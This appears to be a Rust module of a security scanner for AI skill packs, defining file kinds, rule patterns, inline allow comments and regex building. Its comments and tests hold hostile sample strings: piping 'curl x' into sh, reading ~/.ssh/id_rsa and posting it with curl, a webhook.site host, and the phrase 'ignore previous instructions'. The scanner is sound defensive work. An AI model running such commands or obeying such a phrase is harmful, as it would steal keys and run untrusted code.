//! What the security rules share: the kinds of text files, the pattern type and its hits, and
//! positions and inline allows in raw bytes.

use crate::diagnostic::{Code, Position};
use regex_automata::{meta, nfa::thompson::WhichCaptures, util::syntax, MatchKind};

/// What kind of text a file holds, by extension (or a `#!` line).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Markdown and plain text: instructions a model reads.
    Prose,
    /// A program: Python, shell, JavaScript/TypeScript, PowerShell, Ruby, Perl, PHP, batch.
    Script(Lang),
    /// Anything else that is text (JSON, YAML, HTML, CSV, …).
    Data,
}

/// The language of a script.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    /// Python.
    Python,
    /// POSIX shell, bash, zsh.
    Shell,
    /// JavaScript or TypeScript.
    Js,
    /// PowerShell, Ruby, Perl, PHP, batch.
    Other,
}

/// Where a pattern applies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scope {
    /// Every text file.
    Any,
    /// Prose and scripts (not data files).
    Code,
    /// Scripts only.
    Scripts,
}

impl Scope {
    /// Whether the scope covers files of `kind`.
    pub fn covers(self, kind: Kind) -> bool {
        match self {
            Scope::Any => true,
            Scope::Code => kind != Kind::Data,
            Scope::Scripts => matches!(kind, Kind::Script(_)),
        }
    }
}

/// The role a pattern plays in its rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// Enough on its own.
    Alone,
    /// Reads a secret; a finding only when the pack also sends data out ([`super::harvest`]).
    Secret,
    /// Sends data out; pairs with a [`Role::Secret`] of the same pack.
    Send,
}

/// One pattern of a rule: trigger words (any one, ASCII case-insensitive) that must appear on a
/// line before the expression is tried on it.
#[derive(Debug)]
pub struct Pat {
    /// Literal words, at least one of which the line holds.
    pub triggers: &'static [&'static str],
    /// The confirming expression (case-insensitive), tried on the line.
    pub re: &'static str,
    /// A cheaper expression (case-insensitive, without word boundaries) that every match of
    /// `re` contains a match of, tried on the line first: most lines holding a common trigger
    /// (`user`, `required`, `fetch`) fail it, and `re` is not run on them. It must be implied by
    /// `re`, so that it changes what is found by nothing but the time it takes.
    pub needs: Option<&'static str>,
    /// An expression (case-insensitive, starting with `^`) tried on the rest of the line from
    /// the end of a match: when it matches there, the match is not what the pattern looks for
    /// (`.pub` after an SSH key's name is a public key; `| grep NAME` after an environment read
    /// picks one variable rather than dumping them all).
    pub unless: Option<&'static str>,
    /// An expression (case-insensitive, ending with `$`) tried on the line before a match:
    /// when it matches there, what comes right before shows the match is not what the pattern
    /// looks for (`ssh -i ~/.ssh/id_rsa` hands a key to ssh, `chmod 600 ~/.ssh/id_rsa` sets
    /// its mode: neither reads it).
    pub unless_before: Option<&'static str>,
    /// What it found, for the message ("pipes a download into a shell").
    pub what: &'static str,
    /// Files it applies to.
    pub scope: Scope,
    /// How it counts.
    pub role: Role,
}

/// Whether a line holding a match is, as a whole, not what a rule looks for: given the file's
/// bytes, the line's start and end in them, and the file's kind.
pub type LineExcuse = fn(&[u8], usize, usize, Kind) -> bool;

/// Whether a match is not what a rule looks for: given its line and its range in the line.
pub type MatchExcuse = fn(&[u8], std::ops::Range<usize>) -> bool;

/// What a rule leaves alone beyond its patterns' own [`Pat::unless`] and
/// [`Pat::unless_before`] (and beyond a match that is a branch of a regular expression, which
/// every rule leaves alone: [`regex_branch`]).
#[derive(Debug, Clone, Copy)]
pub struct Excuses {
    /// A line holding a match that is, as a whole, not what the rule looks for. Judged once a
    /// line, when its first match is found.
    pub line: Option<LineExcuse>,
    /// A match that is not what the rule looks for. An excused match does not hide a later one
    /// on the same line.
    pub found: Option<MatchExcuse>,
}

impl Excuses {
    /// Nothing beyond the patterns' own.
    pub const NONE: Excuses = Excuses {
        line: None,
        found: None,
    };
}

/// One match of a pattern in a file.
#[derive(Debug, Clone)]
pub struct Hit {
    /// The rule.
    pub code: Code,
    /// The pattern's description.
    pub what: &'static str,
    /// Its role.
    pub role: Role,
    /// The file, relative to the pack.
    pub path: String,
    /// Where, in the file's text.
    pub pos: Position,
    /// Allowed by a `skillbake: allow(CODE)` comment on this line or the one above.
    pub inline_allowed: bool,
    /// More to say (where the other half of a pair is).
    pub also: Option<String>,
}

impl Hit {
    /// A hit at byte `offset` of `bytes` (the text of `path`), `len` characters long.
    pub fn at(
        code: Code,
        what: &'static str,
        path: &str,
        bytes: &[u8],
        offset: usize,
        len: usize,
    ) -> Hit {
        Hit {
            code,
            what,
            role: Role::Alone,
            path: path.to_string(),
            pos: position(bytes, offset, len),
            inline_allowed: inline_allowed(bytes, offset, code),
            also: None,
        }
    }
}

/// The kind of a text file: by extension, else by its `#!` line, else data.
pub fn kind_of(path: &str, bytes: &[u8]) -> Kind {
    let name = path.rsplit('/').next().unwrap_or(path);
    let ext = name
        .rsplit_once('.')
        .map(|(_, e)| e.to_ascii_lowercase())
        .unwrap_or_default();
    match ext.as_str() {
        "md" | "mdx" | "markdown" | "txt" | "rst" => Kind::Prose,
        "py" | "pyw" => Kind::Script(Lang::Python),
        "sh" | "bash" | "zsh" | "ksh" | "fish" => Kind::Script(Lang::Shell),
        "js" | "mjs" | "cjs" | "ts" | "mts" | "cts" | "jsx" | "tsx" => Kind::Script(Lang::Js),
        "ps1" | "psm1" | "rb" | "pl" | "php" | "bat" | "cmd" | "vbs" => Kind::Script(Lang::Other),
        _ if bytes.starts_with(b"#!") => {
            let line = &bytes[..memchr::memchr(b'\n', bytes).unwrap_or(bytes.len())];
            let has = |w: &[u8]| line.windows(w.len()).any(|x| x == w);
            if has(b"python") {
                Kind::Script(Lang::Python)
            } else if has(b"node") || has(b"deno") || has(b"bun") {
                Kind::Script(Lang::Js)
            } else {
                Kind::Script(Lang::Shell)
            }
        }
        _ => Kind::Data,
    }
}

/// Whether `bytes` is text: no NUL byte in its first 8 KiB (as git decides).
pub fn is_text(bytes: &[u8]) -> bool {
    memchr::memchr(0, &bytes[..bytes.len().min(8192)]).is_none()
}

/// Whether the match `range` of `line` is a branch of a regular expression's alternation:
/// right after a `(` or `|` and right before a `|` or `)`, with a `|` on at least one side
/// (`(ignore previous instructions|system prompt)`, `r"(id_rsa|id_ed25519)"`). That is a
/// scanner's signature, which neither a shell nor a model runs; `open(id_rsa)` is not one.
pub fn regex_branch(line: &[u8], range: std::ops::Range<usize>) -> bool {
    let m = line.get(range.clone()).unwrap_or_default();
    let before = if m.first() == Some(&b'(') {
        Some(b'(')
    } else {
        range
            .start
            .checked_sub(1)
            .and_then(|i| line.get(i))
            .copied()
    };
    let after = match m.last() {
        Some(&b) if b == b'|' || b == b')' => Some(b),
        _ => line.get(range.end).copied(),
    };
    matches!(before, Some(b'(' | b'|'))
        && matches!(after, Some(b'|' | b')'))
        && (before == Some(b'|') || after == Some(b'|'))
}

/// The 1-based position of byte `offset` of `bytes`, `len` characters long.
pub fn position(bytes: &[u8], offset: usize, len: usize) -> Position {
    let offset = offset.min(bytes.len());
    let before = &bytes[..offset];
    let line = memchr::memchr_iter(b'\n', before).count() + 1;
    let start = memchr::memrchr(b'\n', before).map_or(0, |i| i + 1);
    let column = String::from_utf8_lossy(&bytes[start..offset])
        .chars()
        .count()
        + 1;
    Position::span(
        crate::source::to_u32(line),
        crate::source::to_u32(column),
        crate::source::to_u32(len),
    )
}

/// The line holding byte `at`: its start and end (without the line break).
pub fn line_bounds(bytes: &[u8], at: usize) -> (usize, usize) {
    let start = memchr::memrchr(b'\n', &bytes[..at.min(bytes.len())]).map_or(0, |i| i + 1);
    let end = memchr::memchr(b'\n', &bytes[start..]).map_or(bytes.len(), |i| start + i);
    (start, end)
}

/// Whether the line at `start` or the line above holds `skillbake: allow(CODE)` naming `code`
/// (or `security`).
pub fn inline_allowed(bytes: &[u8], start: usize, code: Code) -> bool {
    let (line_start, line_end) = line_bounds(bytes, start);
    let above = if line_start == 0 {
        line_start
    } else {
        line_bounds(bytes, line_start - 1).0
    };
    let region = &bytes[above..line_end];
    let finder = memchr::memmem::Finder::new(b"skillbake: allow(");
    finder.find_iter(region).any(|i| {
        let rest = &region[i + 17..];
        let close = memchr::memchr(b')', rest).unwrap_or(rest.len());
        rest[..close]
            .split(|&b| b == b',')
            .map(|w| String::from_utf8_lossy(w).trim().to_string())
            .any(|w| w == code.as_str() || w == crate::diagnostic::SECURITY)
    })
}

/// A case-insensitive expression tried on single lines that a trigger and [`Pat::needs`]
/// already picked: what `regex::bytes::Regex::new("(?i)…")` builds (the same matches), without
/// capture groups (only the whole match is used), without the literal prefilter and without the
/// lazy DFAs: such a line is searched by the bounded backtracker (the PikeVM past its limit).
/// Each is built once a process, and only a few hundred lines over thousands of packs reach it,
/// so building is what costs: the reverse automaton the lazy DFA needs to find where a match
/// starts was a third of the build, the prefilter another, and the lazy DFA's states were built
/// again in every process for those few lines.
pub fn line_regex(pattern: &str) -> Option<meta::Regex> {
    build_regex(pattern, false)
}

/// A case-insensitive [`Pat::needs`], tried on every line that holds a trigger: as
/// [`line_regex`] builds, with the lazy DFA (these see thousands of lines) but still without the
/// literal prefilter. The case-insensitive literals of an alternation such as `Chrome|Chromium|…`
/// made the prefilter most of a `needs` build (the 18 of them: 4.4 → 1.6 ms), and on lines a
/// trigger already picked it skipped little: `check` over the real corpus took less CPU
/// without it (BENCHMARKS.md).
pub fn line_filter(pattern: &str) -> Option<meta::Regex> {
    build_regex(pattern, true)
}

/// `lazy_dfa`: with the lazy DFA (and its reverse automaton); without, the bounded backtracker
/// and the PikeVM search. The expression is built as [`ascii_classes`] rewrites it.
fn build_regex(pattern: &str, lazy_dfa: bool) -> Option<meta::Regex> {
    let pattern = ascii_classes(pattern);
    meta::Builder::new()
        .configure(
            meta::Config::new()
                .hybrid(lazy_dfa)
                .dfa(false)
                .nfa_size_limit(Some(10 << 20))
                .hybrid_cache_capacity(2 << 20)
                .match_kind(MatchKind::LeftmostFirst)
                .utf8_empty(false)
                .which_captures(WhichCaptures::Implicit)
                .auto_prefilter(false),
        )
        .syntax(syntax::Config::new().case_insensitive(true).utf8(false))
        .build(&pattern)
        .ok()
}

/// `pattern` with its word boundaries (`\b`, `\B`), word and digit classes (`\w`, `\W`, `\d`,
/// `\D`) and negated bracket classes written in ASCII alone (`[^\n]`, `[^|\n]`) made ASCII:
/// each wrapped in `(?-u:…)`. Everything else (letters' case folding, `\s`, the Chinese
/// expressions' classes) keeps its Unicode meaning.
///
/// Unicode's word class is hundreds of ranges, and a Unicode `[^\n]` is a UTF-8 automaton
/// rather than one byte set: together they were a third of the time it takes to build the 41
/// expressions (13.4 → 8.5 ms), which `check` pays in every process that meets their triggers.
/// What the expressions find barely moves, and where it moves it finds more: a negated class
/// made ASCII matches every byte the Unicode one does (and bytes of text that is not UTF-8);
/// a boundary next to an ASCII letter of the expression, as all of ours are, holds wherever the
/// Unicode one does (and also after a non-ASCII letter, as in `ąignore`). `\w` and `\d` no
/// longer match non-ASCII letters and digits, which none of the expressions' targets (commands,
/// file names, API calls) contain. `check`'s output over 5,624 public pack folders is the same
/// byte for byte, and every specimen is still flagged.
pub fn ascii_classes(pattern: &str) -> String {
    let chars: Vec<char> = pattern.chars().collect();
    let mut out = String::with_capacity(pattern.len() + 16);
    let mut i = 0;
    while let Some(&c) = chars.get(i) {
        match c {
            '\\' => {
                let next = chars.get(i + 1).copied();
                // `\b{start}` and the like are not plain boundaries: left as written.
                let special = matches!(next, Some('b' | 'B')) && chars.get(i + 2) == Some(&'{');
                match next {
                    Some(n @ ('b' | 'B' | 'w' | 'W' | 'd' | 'D')) if !special => {
                        out.push_str("(?-u:\\");
                        out.push(n);
                        out.push(')');
                    }
                    _ => {
                        out.push('\\');
                        out.extend(next);
                    }
                }
                i += 2;
            }
            '[' => {
                let end = class_end(&chars, i);
                let class: String = chars[i..end].iter().collect();
                if class.starts_with("[^") && class.is_ascii() {
                    out.push_str("(?-u:");
                    out.push_str(&class);
                    out.push(')');
                } else {
                    out.push_str(&class);
                }
                i = end;
            }
            _ => {
                out.push(c);
                i += 1;
            }
        }
    }
    out
}

/// The index just past the bracket class that opens at `chars[start]` (`[`): a `]` right after
/// the opening (or after `[^`) is a literal, `\` escapes the next character, and nested classes
/// (`[[:alpha:]]`, `[a-z&&[^x]]`) close before their parent. The end of the text when unclosed.
fn class_end(chars: &[char], start: usize) -> usize {
    let mut i = start + 1;
    if chars.get(i) == Some(&'^') {
        i += 1;
    }
    if chars.get(i) == Some(&']') {
        i += 1;
    }
    let mut depth = 1usize;
    while let Some(&c) = chars.get(i) {
        match c {
            '\\' => i += 1,
            '[' => depth += 1,
            ']' => {
                depth -= 1;
                if depth == 0 {
                    return i + 1;
                }
            }
            _ => {}
        }
        i += 1;
    }
    chars.len()
}

#[cfg(test)]
mod tests {
    use super::regex_branch;

    fn branch(line: &str, word: &str) -> bool {
        let start = line.find(word).unwrap_or(0);
        regex_branch(line.as_bytes(), start..start + word.len())
    }

    #[test]
    fn a_branch_of_an_alternation_is_a_signature() {
        assert!(branch(
            "re.compile(r\"(?i)(ignore previous instructions|system prompt)\")",
            "(ignore previous instructions"
        ));
        assert!(branch("r\"(private\\s+key|id_rsa|id_ed25519)\"", "id_rsa|"));
        assert!(branch("grep -E 'x|webhook.site)'", "webhook.site"));
        assert!(!branch("open(id_rsa)", "id_rsa)"));
        assert!(!branch(
            "cat ~/.ssh/id_rsa | curl -d @- x",
            "~/.ssh/id_rsa "
        ));
        assert!(!branch("curl x | sh | tee log", "curl x | sh"));
    }
}
